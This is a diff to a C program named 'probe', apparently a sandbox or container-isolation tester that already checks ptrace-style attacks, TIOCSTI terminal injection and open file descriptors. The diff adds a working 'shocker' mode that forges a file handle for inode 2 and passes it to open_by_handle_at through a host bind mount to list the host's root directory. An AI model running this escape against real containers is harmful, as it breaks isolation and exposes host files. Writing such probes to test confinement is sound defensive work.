@@ -7,6 +7,9 @@
  *                      opens is listed ("list:fd 3 entries": names only)
  *   probe tty          open /dev/tty (the controlling terminal) and try TIOCSTI on it
  *   probe fds          readlink of every fd of this process
+ *   probe shocker PATH open_by_handle_at the root inode (2) of the filesystem of PATH (an
+ *                      ext4 bind mount of the host, e.g. /etc/hosts in a docker container):
+ *                      with CAP_DAC_READ_SEARCH that reads the host's root directory
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -158,6 +161,30 @@ static int fds(void) {
     return 0;
 }
 
+static int shocker(const char *path) {
+    struct {
+        struct file_handle h;
+        unsigned char bytes[128];
+    } fh;
+    int mount_id;
+    fh.h.handle_bytes = sizeof fh.bytes;
+    report("name_to_handle_at", name_to_handle_at(AT_FDCWD, path, &fh.h, &mount_id, 0) == 0);
+    int mfd = open(path, O_RDONLY);
+    fh.h.handle_type = 1; /* FILEID_INO32_GEN: u32 inode, u32 generation */
+    fh.h.handle_bytes = 8;
+    unsigned int ino_gen[2] = {2, 0};
+    memcpy(fh.h.f_handle, ino_gen, sizeof ino_gen);
+    int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_DIRECTORY);
+    report("open_by_handle_at", fd >= 0);
+    if (fd >= 0) {
+        DIR *d = fdopendir(fd);
+        struct dirent *e;
+        while (d && (e = readdir(d)))
+            printf("host-root-entry %s\n", e->d_name);
+    }
+    return 0;
+}
+
 int main(int argc, char **argv) {
     if (argc == 3 && strcmp(argv[1], "attack") == 0)
         return attack(atoi(argv[2]));
@@ -165,6 +192,8 @@ int main(int argc, char **argv) {
         return tty();
     if (argc == 2 && strcmp(argv[1], "fds") == 0)
         return fds();
-    fprintf(stderr, "usage: probe attack PID | tty | fds\n");
+    if (argc == 3 && strcmp(argv[1], "shocker") == 0)
+        return shocker(argv[2]);
+    fprintf(stderr, "usage: probe attack PID | tty | fds | shocker PATH\n");
     return 2;
 }
